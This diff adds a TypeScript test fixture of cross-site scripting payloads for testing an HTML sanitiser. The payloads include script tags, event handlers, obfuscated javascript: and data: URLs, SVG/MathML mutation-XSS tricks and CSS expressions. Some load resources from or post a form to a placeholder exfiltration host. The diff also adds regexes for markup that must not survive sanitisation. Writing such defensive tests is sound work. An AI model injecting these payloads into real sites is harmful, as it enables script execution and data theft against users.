@@ -1,0 +1,72 @@
+/**
+ * Hostile HTML of the kinds a feed, a model or a visitor could hand us: script
+ * tags, event handlers, javascript: and data: URLs (plain and obfuscated),
+ * SVG/MathML tricks, CSS expressions and url()s, embeds, forms, meta refresh,
+ * base hijacks and parser-confusion (mutation XSS) shapes. Each payload, if it
+ * ran or loaded, would set `window.__xss`, open a dialog or fetch `{exfil}`.
+ */
+export function xssPayloads(exfil: string): string[] {
+  return [
+    `<script>window.__xss = 'script'</script>`,
+    `<script src="${exfil}/script.js"></script>`,
+    `<img src="x" onerror="window.__xss='img-onerror'">`,
+    `<img src="${exfil}/pixel.gif" alt="tracking pixel">`,
+    `<p onclick="window.__xss='onclick'" onmouseover="alert(1)">hover me</p>`,
+    `<body onload="window.__xss='body-onload'">`,
+    `<a href="javascript:window.__xss='js-link'">plain javascript link</a>`,
+    `<a href="JaVaScRiPt:alert(1)">mixed-case javascript link</a>`,
+    `<a href="jav&#x09;ascript:alert(1)">tab-obfuscated link</a>`,
+    `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entity-encoded link</a>`,
+    `<a href=" javascript:alert(1)">leading-space link</a>`,
+    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>`,
+    `<a href="vbscript:msgbox(1)">vbscript link</a>`,
+    `<svg onload="window.__xss='svg-onload'"><script>window.__xss='svg-script'</script></svg>`,
+    `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg link</text></a></svg>`,
+    `<svg><animate attributeName="href" values="javascript:alert(1)" /></svg>`,
+    `<math><mi xlink:href="javascript:alert(1)">math link</mi></math>`,
+    `<math><mtext><table><mglyph><style><img src=x onerror="window.__xss='math-mxss'"></style></mglyph></table></mtext></math>`,
+    `<p style="background-image: url(${exfil}/css.png)">styled paragraph</p>`,
+    `<div style="width: expression(alert(1))">css expression</div>`,
+    `<style>@import url(${exfil}/import.css); body { background: url(${exfil}/bg.png) }</style>`,
+    `<link rel="stylesheet" href="${exfil}/sheet.css">`,
+    `<iframe src="${exfil}/frame.html"></iframe>`,
+    `<iframe srcdoc="<script>parent.__xss='srcdoc'</script>"></iframe>`,
+    `<object data="${exfil}/object.swf"></object><embed src="${exfil}/embed.swf">`,
+    `<form action="${exfil}/steal"><input name="q" autofocus onfocus="window.__xss='onfocus'"><button>Send</button></form>`,
+    `<meta http-equiv="refresh" content="0;url=${exfil}/refresh">`,
+    `<base href="${exfil}/">`,
+    `<video><source onerror="window.__xss='video'"></video><audio src="x" onerror="window.__xss='audio'"></audio>`,
+    `<details open ontoggle="window.__xss='ontoggle'"><summary>details</summary></details>`,
+    `<noscript><p title="</noscript><img src=x onerror=window.__xss='noscript'>"></noscript>`,
+    `<!--<img src="--><img src=x onerror="window.__xss='comment'">`,
+    `<![CDATA[<script>window.__xss='cdata'</script>]]>`,
+    `<template><script>window.__xss='template'</script></template>`,
+    `<p>Safe paragraph with a <a href="https://example.org/ok">fine link</a> and <strong>bold</strong> text.</p>`,
+  ];
+}
+
+/** Markers that must not appear in stored or rendered HTML once it has been sanitised. */
+export const FORBIDDEN_IN_SAFE_HTML: RegExp[] = [
+  /<script/i,
+  /<iframe/i,
+  /<svg/i,
+  /<math/i,
+  /<style/i,
+  /<link/i,
+  /<meta/i,
+  /<base/i,
+  /<form/i,
+  /<input/i,
+  /<object/i,
+  /<embed/i,
+  /<img/i,
+  /<video/i,
+  /<audio/i,
+  /<details/i,
+  /\son[a-z]+\s*=/i,
+  /javascript:/i,
+  /vbscript:/i,
+  /data:text/i,
+  /style\s*=/i,
+  /expression\(/i,
+];
